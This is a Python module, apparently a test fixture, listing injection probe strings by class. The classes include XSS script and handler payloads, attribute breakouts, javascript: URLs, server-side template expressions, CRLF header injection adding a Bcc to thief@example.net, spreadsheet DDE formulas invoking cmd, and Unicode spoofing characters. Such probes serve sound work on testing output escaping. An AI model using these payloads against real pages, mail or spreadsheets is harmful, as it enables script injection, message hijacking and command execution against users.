"""Texts that become something else where a page, letter, header, table or template takes them for more than a text.

Whatever they do if they work is seen: a script calls `alert` and sets a mark, an element is called `x-probe`, a
template multiplies, a header is called `X-Probe`.
"""

from collections.abc import Mapping

MARK = "probed"
ELEMENT = "x-probe"
PRODUCT = str(1313 * 1313)
_RUN = f"window.{MARK}=1;alert(1)"

CLASSES: Mapping[str, str] = {
    "script element": f"<script>{_RUN}</script><ScRiPt src=//{ELEMENT}.example></sCrIpT>",
    "event handler": f'<{ELEMENT} onclick="{_RUN}"><img src=x onerror="{_RUN}"><details open ontoggle="{_RUN}">',
    "out of an attribute": f"\"><{ELEMENT} autofocus onfocus={_RUN}>'><{ELEMENT}>` onmouseover=`{_RUN}` x=\"",
    "out of a raw text": (
        f"</textarea></title></style></noscript></template></script>--><{ELEMENT}><script>{_RUN}</script>"
    ),
    "address with a scheme": f"javascript:{_RUN}//data:text/html,<script>{_RUN}</script>",
    "foreign content": (
        f"<svg><script>{_RUN}</script><animate onbegin={_RUN}></svg><math><mi xlink:href=javascript:{_RUN}>"
    ),
    "markup that loads or leads away": (
        f"<base href=//{ELEMENT}.example/><meta http-equiv=refresh content=0;url=//{ELEMENT}.example>"
        f"<form action=//{ELEMENT}.example><iframe srcdoc='<script>{_RUN}</script>'><img src='//{ELEMENT}.example?"
    ),
    "attributes of our own scripts": (
        f'<{ELEMENT} hx-get="/{ELEMENT}" hx-trigger="load" hx-on:load="{_RUN}" data-copy="x" data-from-link="link">'
    ),
    "style": (
        f"</style><style>*{{background:url(//{ELEMENT}.example)}}</style><{ELEMENT} style='position:fixed;inset:0'>"
    ),
    "template": (
        "{{1313*1313}}${1313*1313}#{1313*1313}<%=1313*1313%>{%print(1313*1313)%}"
        "{{config}}{{''.__class__.__mro__}}%(name)s{0}"
    ),
    "encoded": (
        f"&lt;{ELEMENT}&gt;&#60;{ELEMENT}&#62;%3C{ELEMENT}%3E\\u003c{ELEMENT}\\x3e+ADw-{ELEMENT}+AD4-＜{ELEMENT}＞"
    ),
    "header": (
        "name\r\nX-Probe: 1\r\nBcc: thief@example.net\r\n\r\nbody\nSet-Cookie: probe=1\u2028X-Probe: 2\x0bX-Probe: 3"
    ),
    "cell of a table": f'=HYPERLINK("//{ELEMENT}.example","x")\t+cmd|\' /C calc\'!A0\r@SUM(1313*1313)\n-1313',
    "letters that lead the eye": "\u202egnp.exe\u202c\u200b\u2066\ufeff admin\u00adistrator а́\u0301\u0489 \x1b[2J",
}  # fmt: skip

ALL_AT_ONCE = " ".join(CLASSES.values())
